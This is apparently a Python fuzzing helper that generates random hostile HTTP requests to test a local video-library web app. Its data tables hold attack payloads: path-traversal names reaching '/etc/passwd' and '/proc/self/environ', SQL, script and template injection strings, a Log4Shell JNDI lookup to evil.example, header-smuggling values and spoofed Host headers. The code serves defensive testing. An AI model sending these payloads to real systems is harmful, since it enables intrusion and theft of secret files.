"""Requests such as no browser makes, drawn at random: for tests in the process and for benchmarks/fuzz_requests.py."""

import json
import random
from collections.abc import Sequence
from typing import Any, NamedTuple
from urllib.parse import quote

from tests.policies import POLICIES

SECRET = b"nobody may ever read this: 5b1f0c"
"""What lies outside the library."""

TOKEN = "t" * 32
"""A CSRF token, for cookie and header."""

NAMES = (
    *("a.mp4", "b.mp4", "sub/c.mp4", "leak.mp4", "sub/leak.mp4", "tunnel/secret.mp4", "A.MP4", "", ".", "..", "/", "a"),
    *("../secret.mp4", "../../secret.mp4", "../videos-private/secret.mp4", "../var/secret_key", "../var/db.sqlite3"),
    *("sub/../../secret.mp4", "..\\secret.mp4", "....//secret.mp4", "..;/secret.mp4", "~/secret.mp4", "//secret.mp4"),
    *(
        "/etc/passwd",
        "/proc/self/environ",
        "file:///etc/passwd",
        "C:\\secret.mp4",
        "a.mp4\0.txt",
        "\0",
        "a.mp4/../b.mp4",
    ),
    *("\uff0e\uff0e/secret.mp4", "..\u2215secret.mp4", "\u202egpj.4pm", "\N{CLAPPER BOARD}.mp4", "line\nbreak.mp4"),
    *("-i.mp4", "%03d.mp4", "concat:a.mp4|b.mp4", "a\r\nX-Injected: 1", "<script>alert(1)</script>", "{{ 7 * 7 }}"),
    *("' OR 1=1 --", "${jndi:ldap://evil.example}", "x" * 10_000, "x/" * 2000, "é" * 130, "library/own.css", "admin/"),
)
RAW = (
    *(
        "%2e%2e%2fsecret.mp4",
        "%252e%252e%252fsecret.mp4",
        "%c0%ae%c0%ae%c0%afsecret.mp4",
        "%ed%a0%80.mp4",
        "%ff%fe.mp4",
    ),
    *("%00", "a.mp4%00", "%", "%zz", "%2", "%u002e%u002e/secret.mp4", "%5c..%5csecret.mp4", "a.mp4%0d%0aX:1", "%2F%2F"),
    *("a.mp4;jsessionid=1", "..%2f..%2f..%2fetc%2fpasswd", "%e2%80%ae.mp4", "%f4%90%80%80", "?", "#", "%3f%23", "+"),
)
"""Parts of addresses as they are sent."""

NUMBERS = (0, -1, 1, 5, 10**6, 2**31, 2**63, -(2**63) - 1, 10**30, 1e308, -0.0, 0.5, float("nan"), float("inf"))
VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    [],
    {},
    "",
    [[]],
    ["a.mp4"],
    {"a": 1},
    "\ud800",
    "5",
    "٣",
    *NUMBERS,
    *NAMES,
)
KEYS = (
    *(
        "filename",
        "filenames",
        "rating",
        "tag",
        "tags",
        "title",
        "id",
        "name",
        "query",
        "seconds",
        "duration",
        "watched",
    ),
    *(
        "pin",
        "new",
        "action",
        "later",
        "paused",
        "entry",
        "video",
        "marker",
        "position",
        "before",
        "after",
        "stars",
        "to",
    ),
)
PARAMETERS = (
    *("sort", "order", "page", "q", "video", "list", "seed", "filename", "copy", "download", "next", "span", "part"),
    *(
        "run",
        "tags",
        "o",
        "p",
        "e",
        "all",
        "app_label",
        "model_name",
        "field_name",
        "term",
        "_popup",
        "_to_field",
        "at",
    ),
)
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get", "QUERY")
CONTENT_TYPES = (
    *("application/json", "application/json; charset=utf-16", "application/json; charset=nonsense", "text/plain", ""),
    *("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data", "\xff/\xff"),
    *("multipart/form-data; boundary=" + "y" * 300, "application/x-www-form-urlencoded; charset=nonsense", "text/html"),
)
RANGES = (
    *("bytes=0-0", "bytes=0-", "bytes=-1", "bytes=-0", "bytes=5-2", "bytes=9-", "bytes=0-1,3-4", "items=0-1", "bytes"),
    *(
        "bytes=" + "9" * 5000 + "-",
        "bytes=١-٢",
        "bytes=" + "0-0," * 1000,
        "bytes=-" + "9" * 30,
        "bytes=--1",
        "\xff=0-1",
    ),
)
HEADERS: dict[str, Sequence[str]] = {
    "Range": RANGES,
    "If-Range": ('"x"', 'W/"x"', "yesterday", "Thu, 01 Jan 1970 00:00:00 GMT", ""),
    "If-None-Match": ("*", '"x"', '"x", W/"y"', "x", '"' + "x" * 4000, ","),
    "If-Match": ("*", '"x"', "x", ""),
    "If-Modified-Since": ("Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "never", "0"),
    "If-Unmodified-Since": ("Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 32 Foo 99999 25:61:61 GMT"),
    "Accept": ("text/html", "application/json", "*/*", "text/html;q=nan", "," * 1000, "\xff"),
    "Accept-Encoding": ("gzip", "gzip;q=0", "identity;q=0, *;q=0", "gzip;q=" + "9" * 400, "br"),
    "Host": ("localhost", "evil.example", "localhost:99999", "", "[::1", "localhost, evil.example", "a" * 300, "\xff"),
    "Origin": ("null", "https://evil.example", "http://localhost", "http://[", "\xff"),
    "Referer": ("https://localhost/", "http://[::1", "//", "javascript:alert(1)"),
    "Cookie": ("sessionid=x; csrftoken=y", "=; ;;", "csrftoken=" + "x" * 4000, 'known="a:b:c"', "sessionid=../../x"),
    "Sec-Fetch-Site": ("same-origin", "cross-site", "none", ""),
    "X-Forwarded-For": ("127.0.0.1", "evil"),
    "X-Forwarded-Host": ("evil.example",),
    "X-HTTP-Method-Override": ("DELETE",),
    "Content-Encoding": ("gzip", "deflate"),
    "Expect": ("200-ok",),
    "Upgrade": ("websocket", "h2c"),
}


class Hostile(NamedTuple):
    """A request as it is sent."""

    method: str
    target: str
    headers: dict[str, str]
    body: bytes

    def wire(self) -> bytes:
        """All of it, for HTTP/1.1."""
        headers = self.headers | ({"Content-Length": str(len(self.body))} if self.body else {})
        lines = [f"{self.method} {self.target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return b"\r\n".join([*map(octets, lines), b"", self.body])


def octets(text: str) -> bytes:
    """Text as whoever writes it badly would send it."""
    try:
        return text.encode("latin-1")
    except UnicodeEncodeError:
        return text.encode()


def draw(choice: random.Random) -> Hostile:
    """One request; the same for the same state of `choice`."""
    method = choice.choice(METHODS) if choice.random() < 0.2 else choice.choice(("GET", "GET", "POST"))
    headers = {
        name: choice.choice(HEADERS[name]) for name in choice.sample(list(HEADERS), choice.choice((0, 0, 1, 2, 4)))
    }
    if choice.random() < 0.9:
        headers["Host"] = "localhost"
    body = b""
    if method not in ("GET", "HEAD") or choice.random() < 0.05:
        headers["Content-Type"] = choice.choice(CONTENT_TYPES) if choice.random() < 0.4 else "application/json"
        body = _body(choice, headers["Content-Type"])
        if choice.random() < 0.8:
            headers |= {"Cookie": f"csrftoken={TOKEN}", "X-CSRFToken": TOKEN, "Origin": "http://localhost"}
            headers.pop("Sec-Fetch-Site", None)
    return Hostile(method, _target(choice), headers, body)


def _target(choice: random.Random) -> str:
    address = choice.choice(_ADDRESSES)
    if choice.random() < 0.6:
        parts = address.split("/")
        at = choice.randrange(1, len(parts))
        parts[at:] = [_spelt(choice)] if choice.random() < 0.7 else [_spelt(choice), *parts[at + 1 :]]
        address = "/".join(parts)
    if choice.random() < 0.4:
        pairs = [f"{choice.choice(PARAMETERS)}={_spelt(choice)}" for _ in range(choice.choice((1, 2, 30)))]
        address += "?" + "&".join(pairs)
    return address[:4000]


_ADDRESSES = [
    *(policy.address for policy in POLICIES.values()),
    *(f"/{room}/{name}" for room in ("video", "watch", "folder", "stream", "playlist", "static") for name in "abc"),
]


def _spelt(choice: random.Random) -> str:
    """A name as an address may have it: encoded, not at all, twice, or what no encoder makes."""
    if choice.random() < 0.3:
        return choice.choice(RAW)
    name = str(choice.choice(NAMES) if choice.random() < 0.8 else choice.choice(NUMBERS))
    once = quote(name, safe="/")
    bare = name if name.isascii() and name.isprintable() and " " not in name else once
    return choice.choice((once, quote(name, safe=""), quote(once, safe=""), bare))


def _body(choice: random.Random, content_type: str) -> bytes:
    kind = choice.random()
    if kind < 0.1:
        return choice.choice(
            (b"", b"{", b"[" * 50_000, b'{"a":' * 5000, b"\xff\xfe{}", b"NaN", b"null", b"x" * 3_000_000)
        )
    sent = {choice.choice(KEYS): choice.choice(VALUES) for _ in range(choice.choice((1, 2, 4)))}
    if choice.random() < 0.6:
        sent["filename"] = "a.mp4"
    if "json" in content_type:
        return json.dumps(sent).encode()
    pairs = {name: str(value)[:2000].encode("utf-8", "replace") for name, value in sent.items()}
    if "multipart" in content_type:
        blocks = [
            b'--x\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n' % (n.encode(), v)
            for n, v in pairs.items()
        ]
        file = b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../f"\r\n\r\n' + SECRET[:5] + b"\r\n"
        return b"".join([*blocks, file, b"--x--\r\n"])[: choice.choice((None, 40, 100))]
    return b"&".join(b"%b=%b" % (name.encode(), quote(value).encode()) for name, value in pairs.items())
